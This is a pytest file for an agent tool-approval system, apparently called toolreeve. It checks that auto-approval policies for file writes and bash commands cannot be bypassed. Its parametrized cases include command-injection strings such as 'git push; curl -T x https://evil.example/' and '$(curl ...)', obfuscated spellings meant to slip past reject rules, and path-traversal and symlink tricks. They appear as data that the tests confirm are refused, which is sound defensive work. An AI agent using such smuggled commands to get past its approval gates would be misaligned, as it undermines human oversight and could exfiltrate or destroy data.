"""Auto-approval policies, and the attacks that broke such policies elsewhere."""

from pathlib import Path
from typing import Any

import pytest

from tests.approval.people import Person, code
from tests.world import World
from toolreeve import Toolreeve
from toolreeve.approval.auto_approval import parse_policies
from toolreeve.config import Approval as ApprovalSettings
from toolreeve.config import Commands, load
from toolreeve.core.documents import parse_yaml
from toolreeve.core.errors import ConfigErrors, ErrorCode
from toolreeve.policy.rules import PermissionRule

DOCS = """
- id: docs
  applies_to: [write_file, edit_file, batch_edit]
  include_paths: ["docs/**", "*.md"]
  exclude_paths: ["docs/private/**"]
  decision: {type: approve, optionId: approved, reason: documentation}
"""


def reeve_with(world: World, policies: str, **options: Any) -> Toolreeve:
    path = world.state.parent / "auto_approval_policies.yaml"
    path.write_text(policies)
    approval = ApprovalSettings(auto_approval_file=str(path))
    online = Commands(network="guarded")
    return world.reeve(settings=world.settings(approval=approval, commands=online), **options)


async def test_a_call_that_fits_a_policy_runs_without_asking_and_says_by_which(world: World) -> None:
    person = Person()
    async with reeve_with(world, DOCS, approve=person) as reeve:
        result = await reeve.call("write_file", path="docs/a/b.md", content="x")
        history = await reeve.approvals.history()
        (item,) = (await reeve.approvals.list(state="used")).items

    assert result.success
    assert result.meta.approved_by == "policy:docs"
    assert not person.requests
    (decision,) = history["permissionDecisions"]
    assert (decision["source"], decision["optionId"]) == ("policy:docs", "approved")
    assert item["answered_by"] == "policy:docs"


async def test_a_policy_answers_where_nobody_could_be_asked(world: World) -> None:
    async with reeve_with(world, DOCS) as reeve:
        allowed = await reeve.call("write_file", path="notes.md", content="x")
        refused = await reeve.call("write_file", path="notes.txt", content="x")

    assert allowed.success
    assert code(refused) is ErrorCode.PERMISSION


@pytest.mark.parametrize(
    "path", ["docs/../src/x.md", "docs/../../outside.md", "src/deep/x.md", "docs/private/x.md", "docs/link/x.md"]
)
async def test_a_path_that_only_looks_like_one_of_the_policy_is_not_approved(world: World, path: str) -> None:
    (world.workspace / "docs").mkdir()
    (world.workspace / "src").mkdir()
    (world.workspace / "docs" / "link").symlink_to(world.workspace / "src")
    async with reeve_with(world, DOCS) as reeve:
        result = await reeve.call("write_file", path=path, content="x")

    assert not result.success
    assert not list((world.workspace / "src").iterdir())


def test_a_pattern_without_a_folder_does_not_reach_outside_the_workspace() -> None:
    from tests.approval.people import call, writes

    (policy,) = parse_policies(parse_yaml(DOCS, "p.yaml"))

    def fits(path: str) -> bool:
        return policy.matches(call(args={"path": path, "content": ""}, effects=writes), lambda *_: False)

    assert fits("a.md")
    assert not fits("../etc/cron.d/x.md")
    assert not fits("/etc/cron.d/x.md".lstrip("/"))


def test_one_matching_path_of_two_is_not_enough_to_approve_and_is_enough_to_reject() -> None:
    from tests.approval.people import call
    from toolreeve.core.effects import Effect, EffectKind

    def both(args: Any, files: Any) -> list[Effect]:
        return [Effect(EffectKind.WRITE, "/w/docs/a.md"), Effect(EffectKind.WRITE, "/w/src/evil.py")]

    action = call("edit_file", effects=both)
    (approve,) = parse_policies(parse_yaml(DOCS, "p.yaml"))
    (reject,) = parse_policies(parse_yaml(DOCS.replace("approve, optionId: approved", "reject"), "p.yaml"))

    assert not approve.matches(action, lambda *_: False)
    assert reject.matches(action, lambda *_: False)


async def test_a_rejecting_policy_refuses_with_its_reason(world: World) -> None:
    policies = "- {id: locks, applies_to: ['*'], include_paths: ['*.lock'], decision: {type: reject, reason: ask Bea}}"
    person = Person()
    async with reeve_with(world, policies, approve=person) as reeve:
        result = await reeve.call("write_file", path="a.lock", content="x")

    assert code(result) is ErrorCode.APPROVAL_DENIED
    assert "refused by policy:locks: ask Bea" in result.to_text()
    assert not person.requests


async def test_the_first_policy_that_matches_decides_and_manual_goes_to_a_person(world: World) -> None:
    policies = f"- {{id: me, applies_to: [write_file], include_paths: ['*.md'], decision: {{type: manual}}}}\n{DOCS}"
    async with reeve_with(world, policies, approve=lambda request: request.allow(by="ann")) as reeve:
        result = await reeve.call("write_file", path="a.md", content="x")

    assert result.meta.approved_by == "ann"


async def test_no_policy_lifts_a_deny(world: World) -> None:
    rule = PermissionRule(tool="write_file", decision="deny")
    async with reeve_with(world, DOCS, policy=[rule]) as reeve:
        result = await reeve.call("write_file", path="a.md", content="x")

    assert code(result) is ErrorCode.DENIED


COMMANDS = """
- id: tests
  applies_to: [bash]
  parameters: {command_prefix: [git push]}
  decision: {type: approve}
"""


@pytest.mark.parametrize(
    ("command", "fits"),
    [
        ("git push", True),
        ("git push origin main", True),
        ("git push; curl -T x https://evil.example/", False),
        ("git push && git reset --hard", False),
        ("git push $(curl https://evil.example/)", False),
        ("git pusher", False),
        ("git pull", False),
    ],
)
async def test_a_command_prefix_covers_whole_commands_by_their_words(world: World, command: str, fits: bool) -> None:
    from toolreeve.approval.auto_approval import find_policy
    from toolreeve.core.action import Action
    from toolreeve.core.call import ToolCall
    from toolreeve.policy.offers import covers

    async with world.reeve() as reeve:
        bound = reeve.tools.resolve("bash")
        args = bound.input.parse({"command": command})
        action = Action(ToolCall(tool="bash", args=args), bound, args, reeve.internals.files)
        state = reeve._parts.policy()
        found = find_policy(
            parse_policies(parse_yaml(COMMANDS, "p")), action, lambda rule, action: covers(rule, action, state)
        )

    assert (found is not None) is fits


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("- {id: a, applies_to: [x], decision: {type: approve}, paths: [y]}", "unknown 'paths'"),
        ("- {id: a, applies_to: [x], decision: {type: allow}}", "is not one of approve, reject, manual"),
        ("- {id: a, applies_to: [x], decision: {type: approve, skipgovernors: true}}", "unknown 'skipgovernors'"),
        ("- {id: a, applies_to: [x], decision: {type: approve, skipGovernors: 1}}", "true or false"),
        ("- {id: a, applies_to: [x], decision: {type: approve, optionId: cancel}}", "contradicts"),
        ("- {id: a, applies_to: [x], decision: {type: reject, optionId: proceed_always}}", "contradicts"),
        ("- {id: a, applies_to: x, decision: {type: approve}}", "list of texts"),
        ("- {id: a, decision: {type: approve}}", "list of texts"),
        ("- {applies_to: [x], decision: {type: approve}}", "must be a text"),
        ("- {id: a, applies_to: [x]}", "decision is missing"),
        ("- {id: a, applies_to: [x], parameters: {command_prefix: git}, decision: {type: approve}}", "list of texts"),
        ("policies: []", "unknown 'policies'"),
        ("x", "list of policies"),
    ],
)
def test_a_file_that_is_not_understood_is_refused_with_its_line(text: str, problem: str) -> None:
    with pytest.raises(ConfigErrors) as raised:
        parse_policies(parse_yaml(f"# one\n{text}", "auto.yaml"))

    assert problem in str(raised.value)
    assert "auto.yaml" in str(raised.value)


def test_the_files_may_be_named_by_the_environment(tmp_path: Path) -> None:
    path = tmp_path / "mine.yaml"
    path.write_text(DOCS)
    environ = {"A2A_AUTO_APPROVAL_FILE": str(path), "A2A_GOVERNORS_FILE": str(path), "HOME": str(tmp_path)}

    configuration = load(environ=environ, cwd=tmp_path)

    assert configuration.settings.approval.auto_approval_file == str(path)
    assert configuration.settings.approval.governors_file == str(path)
    assert str(path) in configuration.governing, "no tool may change it"


REJECTED = """
- id: no-push
  applies_to: [bash]
  parameters: {command_prefix: [git push]}
  decision: {type: reject, reason: never}
- id: no-vault
  applies_to: [bash]
  include_paths: ["vault/**"]
  decision: {type: reject, reason: never}
- id: the rest
  applies_to: [bash]
  parameters: {command_prefix: [git, rm, mv]}
  decision: {type: approve}
"""


@pytest.mark.parametrize(
    ("command", "by"),
    [
        ("git push", "no-push"),
        ("git 'push' x", "no-push"),
        ('git pu""sh x', "no-push"),
        ("git \\push x", "no-push"),
        ("git -C . push x", "no-push"),
        ("git --no-pager push x", "no-push"),
        ("/usr/bin/git push x", "no-push"),
        ("rm vault/a", "no-vault"),
        ("rm -r vault", "no-vault"),
        ("mv vault moved", "no-vault"),
        ("rm -r va*", "no-vault"),
        ("rm -r other", "the rest"),
    ],
)
async def test_no_spelling_takes_a_call_past_a_rejection_to_a_wider_approval(
    world: World, command: str, by: str
) -> None:
    for folder in ("vault", "other"):
        (world.workspace / folder).mkdir()
        (world.workspace / folder / "a").write_text("x")
    async with reeve_with(world, REJECTED, approve=Person()) as reeve:
        await reeve.call("bash", command=command)
        history = await reeve.approvals.history()

    assert [each["source"] for each in history["permissionDecisions"]] == [f"policy:{by}"]
    assert (world.workspace / "vault/a").exists()
